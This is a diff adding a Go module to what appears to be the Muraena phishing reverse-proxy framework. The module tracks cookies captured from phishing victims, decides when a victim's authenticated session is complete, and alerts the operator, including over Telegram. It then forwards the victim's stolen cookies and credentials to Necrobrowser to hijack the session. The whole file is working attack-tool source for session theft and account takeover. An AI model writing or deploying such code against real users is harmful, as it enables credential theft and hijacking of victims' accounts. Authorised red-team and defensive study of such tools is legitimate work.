@@ -0,0 +1,140 @@
+package tracking
+
+import (
+	"encoding/json"
+	"fmt"
+	"regexp"
+	"strings"
+
+	"github.com/evilsocket/islazy/tui"
+
+	"github.com/muraenateam/muraena/core/db"
+	"github.com/muraenateam/muraena/module/necrobrowser"
+	"github.com/muraenateam/muraena/module/telegram"
+	"github.com/muraenateam/muraena/session"
+)
+
+// matchCookieName checks if the cookie name matches the profile one, exactly or as a regular expression
+func matchCookieName(pattern, name string) bool {
+	if strings.HasPrefix(pattern, "^") && strings.HasSuffix(pattern, "$") {
+		matched, _ := regexp.MatchString(pattern, name)
+		return matched
+	}
+
+	return pattern == name
+}
+
+// matchCookieDomain checks if the cookie domain is one of the domains, or a subdomain of them
+func matchCookieDomain(domains []string, domain string) bool {
+	if len(domains) == 0 {
+		return true
+	}
+
+	domain = strings.TrimPrefix(strings.ToLower(domain), ".")
+	for _, d := range domains {
+		d = strings.TrimPrefix(strings.ToLower(d), ".")
+		if domain == d || strings.HasSuffix(domain, "."+d) {
+			return true
+		}
+	}
+
+	return false
+}
+
+// isSessionComplete checks if the cookie jar contains all the cookies of the session profile
+func isSessionComplete(profile session.SessionProfile, cookies []db.VictimCookie) bool {
+	if len(profile.Cookies) == 0 {
+		return false
+	}
+
+	for _, name := range profile.Cookies {
+		found := false
+		for _, c := range cookies {
+			if c.Value != "" && matchCookieName(name, c.Name) && matchCookieDomain(profile.Domains, c.Domain) {
+				found = true
+				break
+			}
+		}
+
+		if !found {
+			return false
+		}
+	}
+
+	return true
+}
+
+// CheckSession marks the victim session as complete once the cookies of one of the session profiles
+// have all been captured, then notifies the operator and instruments the session via Necrobrowser, if enabled.
+func (module *Tracker) CheckSession(victimID string) {
+	profiles := module.Session.Config.Tracking.Sessions
+	if len(profiles) == 0 {
+		return
+	}
+
+	victim, err := db.GetVictim(victimID)
+	if err != nil {
+		module.Error("error fetching victim (%s): %s", victimID, err)
+		return
+	}
+
+	// a session is completed only once
+	if victim.SessionComplete != "" {
+		return
+	}
+
+	for _, profile := range profiles {
+		if !isSessionComplete(profile, victim.Cookies) {
+			continue
+		}
+
+		if err := db.SetSessionAsComplete(victim.ID, profile.Name); err != nil {
+			return
+		}
+
+		session.Publish(session.Event{
+			Type:   session.EventSessionComplete,
+			Victim: victim.ID,
+			Data:   map[string]string{"profile": profile.Name},
+		})
+
+		message := fmt.Sprintf("[%s] [+] session complete: %s", victim.ID, tui.Bold(profile.Name))
+		module.Important("%s (%d cookies)", message, len(victim.Cookies))
+		if tel := telegram.Self(module.Session); tel != nil {
+			tel.Send(message)
+		}
+
+		module.instrumentSession(victim)
+		return
+	}
+}
+
+// instrumentSession pushes a complete session to Necrobrowser, unless already instrumented
+func (module *Tracker) instrumentSession(victim *db.Victim) {
+	if !module.Session.Config.Necrobrowser.Enabled || victim.SessionInstrumented {
+		return
+	}
+
+	m, err := module.Session.Module(necrobrowser.Name)
+	if err != nil {
+		module.Error("%s", err)
+		return
+	}
+
+	nb, ok := m.(*necrobrowser.Necrobrowser)
+	if !ok {
+		return
+	}
+
+	creds, err := json.MarshalIndent(victim.Credentials, "", "\t")
+	if err != nil {
+		module.Warning(err.Error())
+	}
+
+	// prevent the session to be instrumented twice
+	if err := db.SetSessionAsInstrumented(victim.ID); err != nil {
+		return
+	}
+
+	go nb.Instrument(victim.ID, victim.Cookies, string(creds))
+}